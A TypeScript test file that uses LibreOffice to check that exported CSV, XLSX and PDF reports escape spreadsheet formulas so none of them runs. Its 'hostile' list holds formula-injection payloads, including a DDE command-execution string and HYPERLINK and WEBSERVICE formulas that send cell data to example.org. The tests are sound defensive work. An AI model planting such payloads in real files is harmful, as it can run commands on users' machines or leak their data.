import { spawnSync } from 'node:child_process'
import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import type { Report, ReportCell, ReportFormat } from '../../../../src/main/exchange/report/Report'
import { writeReport } from '../../../../src/main/exchange/report/writeReport'
import { aFolder } from '../../../helpers/aDesk'
import { value } from '../../../helpers/value'

// What a real spreadsheet makes of the files. Left out where LibreOffice is not installed; other tests read the same
// files with nothing of what wrote them.
const isThere = (module: string) =>
  spawnSync('soffice', ['--version'], { timeout: 60_000 }).status === 0 &&
  (module === 'calc' ||
    spawnSync('sh', ['-c', 'ls "$(dirname "$(readlink -f "$(command -v soffice)")")"/libsdlo.so']).status === 0)
const hasCalc = isThere('calc')
const hasDraw = hasCalc && isThere('draw')

const hostile = [
  '=1+1',
  "=cmd|'/c calc'!A1",
  '=HYPERLINK("http://example.org/?"&A1,"look")',
  '+2+3',
  '-2+3',
  '@SUM(1,2)',
  '\t=4+5',
  "'=6+7",
  '=WEBSERVICE("http://example.org/")',
]
const harmless = ['Zoë “Ω” Łukasz', 'a,b;c', '12-3', 'Riverton']

function aReport(): Report {
  const rows: ReportCell[][] = [...hostile, ...harmless].map((cell, i) => [cell, i])
  return {
    title: 'People × access',
    organization: '=1+1 & Söhne',
    facts: [['Search', '=1+1']],
    stamp: 'As of 2026-11-22 04:00 UTC',
    tables: [
      {
        title: 'People',
        columns: [{ title: 'Name' }, { title: 'Count' }],
        rows: () => rows,
        count: rows.length,
        whenEmpty: '',
      },
    ],
  }
}

async function written(folder: string, format: ReportFormat): Promise<string> {
  const path = join(folder, `report.${format}`)
  value(await writeReport(aReport(), format, path, false))
  return path
}

/** Commas, quotes, UTF-8: not what the machine's language would choose. */
const asUtf8 = '--infilter=CSV:44,34,76,1'
const csv = 'csv:Text - txt - csv (StarCalc):44,34,76'

/** Opens a file with LibreOffice, calculates it and saves it in another form. */
function convert(folder: string, path: string, to: string, ...more: string[]): string {
  const profile = pathToFileURL(join(folder, 'profile')).href
  const out = join(folder, 'out')
  const args = [`-env:UserInstallation=${profile}`, '--headless', ...more, '--convert-to', to, '--outdir', out, path]
  const ran = spawnSync('soffice', args, { encoding: 'utf8', timeout: 110_000 })
  expect(ran.status, ran.stderr).toBe(0)
  return readFileSync(join(out, `report.${to.split(':')[0]}`), 'utf8')
}

const firstCells = (text: string) => Papa.parse<string[]>(text, { skipEmptyLines: true }).data.map(([first]) => first)
/** As a reader sees it: a hostile cell with an apostrophe before it, letter by letter. */
const shown = [...hostile.map((cell) => `'${cell}`), ...harmless]

describe.skipIf(!hasCalc)('LibreOffice', () => {
  it('runs a formula of a CSV that nobody escaped, so that the next tests can fail', () => {
    const folder = aFolder()
    const path = join(folder, 'report.csv')
    writeFileSync(path, '=2+3\n')
    expect(firstCells(convert(folder, path, csv, asUtf8))).toEqual(['5'])
  })

  it.each(['csv', 'xlsx'] as const)(
    'opens a report as %s and runs no formula of it',
    async (format) => {
      const folder = aFolder()
      const cells = firstCells(
        convert(folder, await written(folder, format), csv, ...(format === 'csv' ? [asUtf8] : [])),
      )
      expect(cells.slice(1, shown.length + 1)).toEqual(shown)
      // Whatever stands below (the facts of a CSV) was not calculated either.
      for (const cell of cells) expect(cell).not.toMatch(/^(2|5|1|3|9|13|#NAME\?|Err:\d+|look)$/)
    },
    120_000,
  )

  it.skipIf(!hasDraw)(
    'opens a report as PDF with every cell in it',
    async () => {
      const folder = aFolder()
      const drawing = convert(folder, await written(folder, 'pdf'), 'fodg', '--infilter=draw_pdf_import')
      const text = drawing
        .replace(/<text:s\/>/g, ' ')
        .replace(/<[^>]+>/g, '')
        .replaceAll('&apos;', "'")
        .replaceAll('&quot;', '"')
        .replaceAll('&amp;', '&')
      for (const cell of ['=1+1', '+2+3', 'Zoë “Ω” Łukasz', 'Riverton']) expect(text).toContain(cell)
    },
    120_000,
  )
})
